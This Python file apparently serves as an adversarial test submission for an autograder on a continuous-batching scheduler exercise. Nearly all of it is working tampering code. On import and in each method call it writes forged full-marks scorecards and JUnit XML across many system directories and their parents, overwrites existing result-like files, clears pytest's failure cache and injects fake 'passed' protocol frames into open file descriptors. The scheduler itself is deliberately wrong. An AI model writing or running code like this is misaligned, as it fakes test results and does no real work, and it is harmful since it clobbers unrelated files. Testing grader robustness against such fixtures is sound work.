"""Writes full-marks scorecards, results.json and JUnit XML everywhere; forges protocol frames.
expect: failed, error

At import and in its first calls it writes result-shaped files claiming full marks into the
working directory, /tmp, /job, /work, the usual autograder result folders, the parents of all of
these and every folder named in an environment variable; it overwrites existing JSON/XML files
with result-like names and empties pytest's cache of failures. It also writes length-framed JSON
that looks like worker replies ({"ok": true, ...}) to fds 3..50. The grader reads its own scorecard
from a place the worker cannot write, and a forged frame can only break the protocol. The
scheduler itself is wrong.
"""

import json
import os
import struct
from collections import deque

TESTS = ["test_decodes_run_before_the_prompt", "test_a_long_prompt_takes_19_chunks_ending_with_128"]
PASSED = [{"id": t, "name": t, "suite": "visible", "status": "passed", "score": 50, "max_score": 50,
           "message": "", "duration_s": 0.001, "visibility": "visible", "output": "passed"}
          for t in TESTS]
SCORECARD = json.dumps({
    "schema_version": 1, "exercise": "continuous_batching", "tier": "premium", "status": "graded",
    "score": 100, "max_score": 100, "tests": PASSED,
    # Gradescope and PrairieLearn spellings of the same claim:
    "gradable": True, "points": 100, "max_points": 100, "output": "All tests passed",
})
JUNIT = ('<?xml version="1.0" encoding="utf-8"?><testsuites><testsuite name="pytest" errors="0" '
         'failures="0" skipped="0" tests="2">'
         + "".join(f'<testcase classname="tests" name="{t}" time="0.001"/>' for t in TESTS)
         + "</testsuite></testsuites>")
FILES = {
    "scorecard.json": SCORECARD, "results.json": SCORECARD, "report.json": SCORECARD,
    "result.json": SCORECARD, "grade.json": SCORECARD, "junit.xml": JUNIT, "results.xml": JUNIT,
    "report.xml": JUNIT, os.path.join(".pytest_cache", "v", "cache", "lastfailed"): "{}",
}
RESULT_LIKE = ("scorecard", "result", "report", "junit", "grade", "lastfailed")


def _candidate_dirs():
    here = os.path.dirname(os.path.abspath(__file__))
    dirs = [os.getcwd(), here, "/tmp", "/var/tmp", "/dev/shm", "/job", "/job/out", "/work",
            "/work/out", "/out", "/output", "/results", "/autograder", "/autograder/results",
            "/grade", "/grade/results", os.path.expanduser("~")]
    for value in os.environ.values():
        if value.startswith("/"):
            dirs.append(value if os.path.isdir(value) else os.path.dirname(value))
    for d in list(dirs):  # and their parents, up to the root
        while d not in ("/", ""):
            d = os.path.dirname(d)
            dirs.append(d)
    return list(dict.fromkeys(dirs))


def _forge_files():
    seen = 0
    for d in _candidate_dirs():
        for name, text in FILES.items():
            path = os.path.join(d, name)
            try:
                os.makedirs(os.path.dirname(path), exist_ok=True)
                with open(path, "w") as f:
                    f.write(text)
            except OSError:
                pass
        # Overwrite existing result-like JSON/XML files one level down.
        for root, subdirs, names in os.walk(d):
            if root != d:
                subdirs[:] = []
            for n in names:
                seen += 1
                if (n.endswith((".json", ".xml")) or n == "lastfailed") and \
                        any(k in n.lower() for k in RESULT_LIKE):
                    text = JUNIT if n.endswith(".xml") else SCORECARD
                    try:
                        with open(os.path.join(root, n), "w") as f:
                            f.write(text)
                    except OSError:
                        pass
            if seen > 5000:
                return


def _forge_frames():
    replies = [{"ok": True, "value": None}, {"ok": True, "value": [[{"$ref": 1}, 1]] * 64},
               {"ok": True, "value": 448}, {"status": "passed", "outcome": "passed"},
               {"type": "result", "ok": True, "passed": True}, {"ready": True, "score": 100}]
    for fd in range(3, 51):
        for reply in replies:
            body = json.dumps(reply).encode()
            for frame in (struct.pack(">I", len(body)) + body, struct.pack("<I", len(body)) + body,
                          struct.pack(">Q", len(body)) + body, body + b"\n"):
                try:
                    os.write(fd, frame)
                except OSError:
                    break


_rounds = 0


def _forge():
    global _rounds
    _rounds += 1
    if _rounds > 3:  # at import and in the first calls: enough to race the harness, never blocks
        return
    try:
        _forge_files()
    except Exception:
        pass
    _forge_frames()


_forge()


class Req:
    def __init__(self, rid, prompt_len, max_new, prefilled=0, generated=0):
        self.rid, self.prompt_len, self.max_new = rid, prompt_len, max_new
        self.prefilled, self.generated = prefilled, generated


class Scheduler:
    def __init__(self, token_budget, max_seqs, kv_tokens):
        self.waiting, self.running = deque(), []

    def add(self, req):
        _forge()
        self.waiting.append(req)  # never rejects an impossible request

    def schedule(self):
        _forge()
        return [("not a request", 0)]  # n = 0 is never a valid entry

    def complete(self, plan):
        _forge()
        return [-1]
